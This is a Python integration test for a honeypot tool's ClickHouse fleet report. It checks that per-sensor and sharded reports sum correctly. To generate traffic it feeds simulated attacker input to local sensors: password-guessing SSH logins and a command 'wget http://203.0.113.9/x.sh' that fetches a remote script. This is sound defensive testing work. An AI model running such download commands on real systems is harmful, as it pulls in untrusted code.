"""
cases_fleet.py - the fleet report (issue 12): `hanipo report --store clickhouse://...` over a
ClickHouse started here on loopback, run by run.py.

Two real sensors with different names ("tokyo", "paris") get SSH logins and commands, HTTP
exploit requests and trap connections (different amounts, so a sum can not come out right by
accident).  Their JSONL events are loaded into ClickHouse's hanipo.events (tests/integration/
chserver.py, the table of docs/fleet.md; not through the ClickHouse output, which has its own
cases).  Then:

  - the fleet report's counts equal the sum of the two sensors' own SQLite reports
    (`hanipo report --json` on each store), section by section, row by row;
  - `--sensor tokyo` gives exactly tokyo's own report, every section, every cell (distinct
    counts and orderings included);
  - the per-sensor sections split the events by sensor, and the source country x sensor
    country section uses [report] sensor_country;
  - over a Distributed table on two ClickHouse servers (tokyo's events in one shard, paris's in
    the other) the fleet report is the same, cell for cell;
  - an unreachable store is an error (exit 1) naming the store, never an empty report.
"""
import json
import os
import socket
import subprocess

from harness import HANIPO_BIN, T, Service, Skip, connect, recv_until_eof, wait_for
from cases import stop_and_read
from cases_http import load_corpus, requests_of
import chserver

ALL = []

# The report's count columns; the other columns name the row.
COUNTS = {"connections", "events", "ips", "count", "attempts", "successes", "downloads", "fetched", "requests", "logins",
          "total", "new", "seen_before", "ports", "sensors"}
# Counts that are distinct values: a union over sensors, not a sum (both sensors see 127.0.0.1).
DISTINCT = {"ips", "ports", "sensors"}


def case(fn):
    ALL.append((fn.__name__, fn))
    return fn


def need_clickhouse():
    if not chserver.available():
        raise Skip("clickhouse-server is not installed (make deps)")
    try:
        import paramiko  # noqa: F401
    except ImportError:
        raise Skip("python3-paramiko is not installed")


def sensor(ctx, name):
    ssh = Service("ssh", protocol="ssh", auth_fail_delay="0")
    d = ctx.daemon(name, [ssh, Service("web", protocol="http"), Service("trap", flush_after="300ms")],
                   sensor={"name": name})
    path = os.path.join(d.tmp, "userdb.txt")
    with open(path, "w") as f:
        f.write("root:x:s3cret\nadmin:x:admin\n")
    os.chmod(path, 0o644)
    ssh.opts["userdb"] = path
    return d.start(timeout=T(20))


def ssh_traffic(port, fails, commands):
    import paramiko
    for i in range(fails):
        t = paramiko.Transport(socket.create_connection(("127.0.0.1", port), timeout=T(10)))
        t.start_client(timeout=T(10))
        try:
            t.auth_password("root", "guess%d" % (i % 3))
        except paramiko.AuthenticationException:
            pass
        t.close()
    t = paramiko.Transport(socket.create_connection(("127.0.0.1", port), timeout=T(10)))
    t.start_client(timeout=T(10))
    t.auth_password("root", "s3cret")
    for cmd in commands:
        ch = t.open_session(timeout=T(10))
        ch.exec_command(cmd)
        ch.recv_exit_status()
        ch.close()
    t.close()


def traffic(d, fails, commands, requests, traps):
    ssh_traffic(d.svc("ssh").port, fails, commands)
    for raw in requests:
        s = connect(d.svc("web").port)
        s.sendall(raw)
        s.shutdown(socket.SHUT_WR)
        recv_until_eof(s)
        s.close()
    for i in range(traps):
        s = connect(d.svc("trap").port)
        s.sendall(b"probe %d\r\n" % i)
        s.close()
    wait_for(lambda: len(requests_of(d.events())) >= len(requests) and
             sum(e["eventid"] == "command.input" for e in d.events()) >= len(commands),
             T(20), what="every request and command in %s" % d.label)


def report(args, config=None):
    cmd = [HANIPO_BIN, "report"] + (["-c", config] if config else []) + list(args)
    r = subprocess.run(cmd, capture_output=True, timeout=T(120))
    assert r.returncode == 0, "report %r: rc %d: %s" % (args, r.returncode, r.stderr[-800:])
    return {s["id"]: s for s in json.loads(r.stdout)["sections"]}


def tally(section):
    """{row key (every text column, per-day series left out): {count column: value}}."""
    out = {}
    for row in section["rows"]:
        key = tuple((c["key"], row.get(c["key"])) for c in section["columns"]
                    if c["key"] != "per_day" and c["key"] not in COUNTS)
        counts = {k: v for k, v in row.items() if k in COUNTS and k not in DISTINCT}
        assert key not in out, "section %s: key %r twice" % (section["id"], key)
        out[key] = counts
    return out


@case
def fleet_report_clickhouse_sums_sensors(ctx):
    """The ClickHouse fleet report = the sum of the sensors' SQLite reports; --sensor A = A's report."""
    need_clickhouse()
    corpus = [raw for _, _, raw in load_corpus()]
    ch = chserver.ClickHouse()
    ctx.defer(ch.cleanup)
    ch.start(timeout=T(30))
    ch.create_table()

    tokyo, paris = sensor(ctx, "tokyo"), sensor(ctx, "paris")
    traffic(tokyo, 4, ["uname -a", "cat /proc/cpuinfo"], corpus[:12], 3)
    # a command longer than a roll-up key (1024 bytes): every store's report cuts it there
    traffic(paris, 2, ["uname -a", "wget http://203.0.113.9/x.sh", "echo " + "7" * 1500], corpus[6:20], 5)
    evs = {d.label: stop_and_read(d) for d in (tokyo, paris)}
    for name, e in evs.items():
        ch.load_events(e, batch=name)
    n = int(ch.query("SELECT count() FROM hanipo.events").strip())
    assert n == sum(len(e) for e in evs.values()), "ClickHouse holds %d events" % n

    day = evs["tokyo"][0]["timestamp"][:10]
    rng = ["--day", day, "--top", "1000", "--json"]
    store = "clickhouse://127.0.0.1:%d/hanipo" % ch.http
    own = {d.label: report(rng, d.config_path) for d in (tokyo, paris)}
    conf = os.path.join(ch.dir, "report.ini")
    with open(conf, "w") as f:
        f.write(open(tokyo.config_path).read() + "\n[report]\nstore = %s\nsensor_country = tokyo:JP paris:FR\n" % store)
    fleet = report(rng, conf)
    assert len(fleet) == 26, "sections: %r" % sorted(fleet)

    problems = []
    for sid, sec in own["tokyo"].items():
        if sid == "new_vs_seen":            # distinct totals only: checked per sensor below
            continue
        want = {}
        for name in ("tokyo", "paris"):
            for key, counts in tally(own[name][sid]).items():
                acc = want.setdefault(key, {})
                for k, v in counts.items():
                    acc[k] = acc.get(k, 0) + v
        got = tally(fleet[sid])
        if got != want:
            diff = [(k, got.get(k), want.get(k)) for k in sorted(set(got) | set(want), key=repr)
                    if got.get(k) != want.get(k)][:4]
            problems.append("%s: fleet != tokyo + paris: %r" % (sid, diff))
    for sid in ("eventids", "usernames", "passwords", "commands", "http_paths", "cves", "protocols"):
        if not fleet[sid]["rows"]:
            problems.append("%s: empty (the traffic should have filled it)" % sid)

    # one sensor out of the fleet: its own report, cell for cell
    only = report(rng + ["--sensor", "tokyo"], conf)
    for sid, sec in own["tokyo"].items():
        if only[sid]["rows"] != sec["rows"]:
            problems.append("--sensor tokyo, %s: %r != own %r" % (sid, only[sid]["rows"][:3], sec["rows"][:3]))
    if [r["sensor"] for r in only["sensors"]["rows"]] != ["tokyo"]:
        problems.append("--sensor tokyo: sensors section %r" % only["sensors"]["rows"])

    # per sensor: events per sensor; country pairs carry the configured sensor countries
    per = {r["sensor"]: r for r in fleet["sensors"]["rows"]}
    for name, e in evs.items():
        if per.get(name, {}).get("events") != len(e):
            problems.append("sensors: %s has %r, its JSONL %d" % (name, per.get(name), len(e)))
    if {r["sensor_cc"] for r in fleet["country_pairs"]["rows"]} != {"JP", "FR"}:
        problems.append("country_pairs: %r" % fleet["country_pairs"]["rows"])
    conns = sum(r["connections"] for r in fleet["sensor_countries"]["rows"])
    if conns != sum(r["connections"] for r in fleet["protocols"]["rows"]):
        problems.append("sensor_countries: %d connections" % conns)
    assert not problems, "\n".join(problems)
    ctx.note("%d events from 2 sensors; %d sections compared" % (n, len(own["tokyo"])))

    # a table made before the hot columns (no MATERIALIZED columns, ORDER BY (sensor, ts, uid)):
    # the report reads the JSON instead and gives the same answer; `hanipo clickhouse init` then
    # adds the columns (old rows compute them when read) and the answer is still the same
    ch.query("CREATE DATABASE legacy")
    ch.query(chserver.OLD_TABLE.replace("hanipo.events", "legacy.events"))
    for name, e in evs.items():
        body = "".join(json.dumps(chserver.event_row(x, name), ensure_ascii=False) + "\n" for x in e).encode()
        ch.query("INSERT INTO legacy.events FORMAT JSONEachRow", body)
    legacy_store = ["--store", "clickhouse://127.0.0.1:%d/legacy" % ch.http]
    old = report(rng + legacy_store, conf)
    for sid, sec in fleet.items():
        assert old[sid]["rows"] == sec["rows"], "old table, %s: %r != %r" % (sid, old[sid]["rows"][:3], sec["rows"][:3])
    init_conf = os.path.join(ch.dir, "init.ini")
    with open(init_conf, "w") as f:
        f.write(open(tokyo.config_path).read() + "\n[output clickhouse]\nenabled = true\nurl = http://127.0.0.1:%d\n"
                "database = legacy\n" % ch.http)
    r = subprocess.run([HANIPO_BIN, "clickhouse", "init", "-c", init_conf], capture_output=True, timeout=T(60))
    assert r.returncode == 0 and b"added column username" in r.stdout, (r.returncode, r.stdout, r.stderr)
    cols = ch.query("SELECT name FROM system.columns WHERE database = 'legacy' AND table = 'events' "
                    "AND default_kind = 'DEFAULT'").split()
    assert "username" in cols and "cves" in cols and "src_asn" in cols, cols
    r = subprocess.run([HANIPO_BIN, "clickhouse", "init", "-c", init_conf], capture_output=True, timeout=T(60))
    assert r.returncode == 0 and b"added column" not in r.stdout, (r.returncode, r.stdout, r.stderr)
    upgraded = report(rng + legacy_store, conf)
    for sid, sec in fleet.items():
        assert upgraded[sid]["rows"] == sec["rows"], "upgraded table, %s" % sid

    # the same over two shards: hanipo.events is a Distributed table over both servers' events_local
    shards = [chserver.ClickHouse().reserve(), chserver.ClickHouse().reserve()]
    for sh in shards:
        ctx.defer(sh.cleanup)
    for sh, name in zip(shards, ("tokyo", "paris")):
        sh.start(timeout=T(30), cluster={"fleet": shards})
        sh.create_table("events_local")
        sh.load_events(evs[name], batch=name, table="events_local")
    shards[0].create_distributed("fleet")
    dist = report(rng + ["--store", "clickhouse://127.0.0.1:%d/hanipo" % shards[0].http], conf)
    for sid, sec in fleet.items():
        assert dist[sid]["rows"] == sec["rows"], "Distributed, %s: %r != %r" % (sid, dist[sid]["rows"][:3],
                                                                               sec["rows"][:3])
    for sh in shards:
        sh.stop()

    # a store that does not answer: exit 1, the store named, no report on stdout
    ch.stop()
    r = subprocess.run([HANIPO_BIN, "report", "--store", store, "--day", day], capture_output=True, timeout=T(60))
    assert r.returncode == 1 and b"127.0.0.1" in r.stderr and not r.stdout, (r.returncode, r.stderr[-300:])
    r = subprocess.run([HANIPO_BIN, "report", "-c", tokyo.config_path, "--sensor", "x"], capture_output=True,
                       timeout=T(60))
    assert r.returncode == 64 and b"ClickHouse" in r.stderr, (r.returncode, r.stderr[-300:])
